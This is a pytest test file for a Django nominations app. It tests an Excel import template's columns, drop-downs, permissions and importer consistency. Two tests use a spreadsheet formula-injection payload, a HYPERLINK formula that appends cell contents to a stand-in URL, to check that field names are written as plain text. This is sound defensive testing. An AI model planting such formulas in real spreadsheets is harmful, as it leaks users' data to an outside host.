"""The Excel template for nominations: its columns, comments, drop-downs and formats, and who may
download it through the API."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from ish.nominations import spreadsheet
from ish.nominations.forms import NominationForm
from ish.nominations.spreadsheet import columns, importing
from ish.seasons.models import ResearchField
from tests.factories import SeasonFactory
from tests.nominations.workbooks import filled_template, student
from tests.workbook_xml import formula_cells, texts

pytestmark = pytest.mark.django_db


TEMPLATE_URL = "/api/v1/nominations/import-template/"
HEADERS = [
    "Given name", "Family name", "Date of birth", "Gender", "E-mail", "Phone", "Nationality",
    "School", "Graduation year", "English level", "German level", "Research interest 1",
    "Research interest 2", "Research interest 3", "Motivation", "Language", "Rank",
    "Passport number", "Dietary requirements", "Allergies", "Medical notes", "Emergency contact",
    "Emergency contact phone",
]  # fmt: skip


@pytest.fixture
def template(season) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))


# --- the template ----------------------------------------------------------------------------


def test_template_has_every_column_with_an_explaining_comment_on_its_header(template):
    sheet = template["Nominations"]

    assert [cell.value for cell in sheet[1]] == HEADERS
    for cell in sheet[1]:
        assert cell.comment is not None, cell.value
        assert len(cell.comment.text) > 10
    assert "YYYY-MM-DD" in sheet["C1"].comment.text
    assert "A1, A2, B1, B2, C1, C2" in sheet["J1"].comment.text
    assert "en, de, fr, he, ja, ru, uk, zh-hans" in sheet["P1"].comment.text


def test_template_freezes_the_header_and_formats_dates_and_widths(template):
    sheet = template["Nominations"]

    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["O"].width > sheet.column_dimensions["Q"].width


def test_template_names_its_season(season):
    other = SeasonFactory(year=2031)

    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(other)))

    assert "2031" in workbook.properties.title
    assert "2027" not in workbook.properties.title


def test_template_offers_drop_downs_for_every_choice_country_and_research_field(template):
    sheet = template["Nominations"]
    lists = template["Lists"]
    drop_downs = {
        str(rule.sqref): rule.formula1
        for rule in sheet.data_validations.dataValidation
        if rule.type == "list"
    }

    assert drop_downs["D2:D501"] == '"female,male,diverse"'
    assert drop_downs["J2:J501"] == '"A1,A2,B1,B2,C1,C2"'
    assert drop_downs["K2:K501"] == '"none,A1,A2,B1,B2,C1,C2"'
    assert drop_downs["P2:P501"] == '"en,de,fr,he,ja,ru,uk,zh-hans"'
    countries = drop_downs["G2:G501"]
    codes = [cell.value for (cell,) in lists[countries.split("!")[1].replace("$", "")]]
    assert {"JP", "DE", "FR", "ZA"} <= set(codes)
    assert len(codes) > 240
    field_range = lists[drop_downs["L2:L501"].split("!")[1].replace("$", "")]
    slugs = {cell.value for (cell,) in field_range}
    assert slugs == set(ResearchField.objects.values_list("slug", flat=True))
    assert drop_downs["M2:M501"] == drop_downs["N2:N501"] == drop_downs["L2:L501"]
    assert lists.protection.sheet


def test_a_research_field_named_like_a_formula_is_listed_as_text(season):
    name = '=HYPERLINK("http://x"&A1,"Open CV")'
    ResearchField.objects.create(slug="zz-hyperlink", name=name)

    lists = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))["Lists"]

    (cell,) = [cell for cell in lists["E"] if cell.value == name]
    assert cell.data_type == "s"
    assert lists.cell(row=cell.row, column=4).value == "zz-hyperlink"
    assert not [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"]


# What a spreadsheet program reads as a formula: a name starting with each of these characters.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_no_sheet_of_the_template_holds_a_formula_for_a_field_named_like_one(season):
    names = [f'{start}HYPERLINK("http://x"&A1,"Open CV")' for start in FORMULA_STARTS]
    for index, name in enumerate(names):
        ResearchField.objects.create(slug=f"zz-formula-{index}", name=name)

    xlsx = spreadsheet.build_template(season)

    assert formula_cells(xlsx) == []
    # As XML reads it, a carriage return is a line break.
    assert {name.replace("\r", "\n") for name in names} <= texts(xlsx)


@pytest.mark.parametrize("role", ["organiser", "coordinator"])
def test_organisers_and_coordinators_download_the_template(api_as, season, role):
    response = api_as(role).get(TEMPLATE_URL, {"season": season.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheet.XLSX
    assert "ish-2027-nominations.xlsx" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Nominations", "Lists"]


@pytest.mark.parametrize(("role", "status"), [("lab_host", 403), ("anonymous", 401)])
def test_lab_hosts_and_strangers_get_no_template(api_as, season, role, status):
    assert api_as(role).get(TEMPLATE_URL, {"season": season.pk}).status_code == status


@pytest.mark.parametrize(
    ("query", "status"), [({}, 400), ({"season": "x"}, 400), ({"season": 999999}, 404)]
)
def test_template_needs_an_existing_season(api_as, season, query, status):
    assert api_as("coordinator").get(TEMPLATE_URL, query).status_code == status


# --- the template, the importer and the form hold the same fields ----------------------------


def test_the_importer_reads_exactly_the_columns_of_the_template(template):
    headers = tuple(cell.value for cell in template["Nominations"][1])

    read = importing._headers(headers)

    assert list(read) == [column.key for column in columns.COLUMNS]
    assert read["allergies"] == ("Allergies", headers.index("Allergies"))


def test_a_row_filled_in_every_column_fills_every_field_of_the_nomination_form(
    template, organiser, coordinator, season, kumamoto
):
    row = student(
        1,
        **{
            "Research interest 3": "physics",
            "Rank": 1,
            "Passport number": "TK1234567",
            "Dietary requirements": "vegetarian",
            "Allergies": "hazelnuts",
            "Medical notes": "asthma",
        },
    )
    assert set(row) == {cell.value for cell in template["Nominations"][1]}
    upload = SimpleUploadedFile("n.xlsx", filled_template(season, [row]))

    (created,) = spreadsheet.import_nominations(
        upload, actor=coordinator, season=season, city=kumamoto
    )

    # An organiser's form shows every field, the confidential ones too.
    form = NominationForm(actor=organiser)
    ranks = {interest.rank for interest in created.interests.all()}
    left_empty = [
        name
        for name in form.fields
        if (
            int(name.removeprefix("interest_")) not in ranks
            if name.startswith("interest_")
            else getattr(created, name) in ("", None)
        )
    ]
    assert left_empty == []
    assert created.allergies == "hazelnuts"
